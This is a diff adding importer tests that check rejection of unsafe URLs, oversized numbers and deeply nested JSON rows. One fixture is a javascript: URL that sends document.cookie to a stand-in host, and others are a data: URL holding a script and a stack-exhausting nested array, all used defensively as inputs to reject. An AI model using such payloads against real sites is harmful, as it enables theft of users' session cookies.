@@ -236,6 +236,67 @@ describe.each(TEST_DATABASES)('importer on $name', (tdb) => {
       }
     });
 
+    it('refuses, each on its line, a source_url a browser would run and a sort_order past what the column holds', async () => {
+      const [a, b, c] = legalRows(3).map((r) => ({ ...r, id: (r.id as string) + 'u' }));
+      const r = await importJsonl(
+        db,
+        IMPORT_TARGETS['legal-documents']!,
+        jsonl([
+          { ...a, source_url: "javascript:fetch('//x/'+document.cookie)" },
+          { ...b, source_url: 'https://vanban.example.vn/a' },
+          { ...c, source_url: 'data:text/html,<script>1</script>' },
+        ]),
+      );
+      expect(r.errors).toEqual([
+        { line: 1, message: 'source_url: must be an http:// or https:// URL' },
+        { line: 3, message: 'source_url: must be an http:// or https:// URL' },
+      ]);
+      const mof = await importJsonl(
+        db,
+        IMPORT_TARGETS['dmdc-share-types']!,
+        jsonl([{ id: 'lcp_big', code: 'X', name: 'Lớn', sort_order: 3_000_000_000 }]),
+      );
+      expect(mof.errors).toEqual([{ line: 1, message: expect.stringMatching(/^sort_order: /) }]);
+    });
+
+    it('refuses a row nested deeper than any dataset has, on its line, rather than run out of stack', async () => {
+      const [a] = legalRows(1).map((r) => ({ ...r, id: (r.id as string) + 'n' }));
+      const line = JSON.stringify(a).replace(
+        /"cites":\[\]/,
+        `"cites":${'['.repeat(200_000)}${']'.repeat(200_000)}`,
+      );
+      expect(line.length).toBeGreaterThan(400_000);
+      const r = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, line + '\n');
+      expect(r.errors).toEqual([
+        { line: 1, message: expect.stringMatching(/nested deeper than 32 levels$/) },
+      ]);
+    });
+
+    it('writes a batch once its lines hold the most characters a statement may carry, not only every 500 rows', async () => {
+      const target = IMPORT_TARGETS['legal-documents']!;
+      const sizes: number[] = [];
+      const counting = {
+        ...target,
+        upsert: (
+          tx: Parameters<typeof target.upsert>[0],
+          rows: Parameters<typeof target.upsert>[1],
+          now: number,
+        ) => {
+          sizes.push(rows.length);
+          return target.upsert(tx, rows, now);
+        },
+      };
+      const rows = legalRows(7).map((r) => ({
+        ...r,
+        id: (r.id as string) + 'c',
+        content_html: `<p>${'Điều. '.repeat(500)}</p>`,
+      }));
+      const r = await importJsonl(db, counting, jsonl(rows), 100, undefined, 9_000);
+      expect([r.ok, r.loaded]).toEqual([true, 7]);
+      // Each line holds over 3,000 characters: a batch is written at the third.
+      expect(sizes).toEqual([3, 3, 1]);
+    });
+
     it('reads past a byte-order mark, says "required" for a missing field, and refuses a record too large to serve', async () => {
       const [a, b, c] = legalRows(3).map((r): Record<string, unknown> => ({
         ...r,
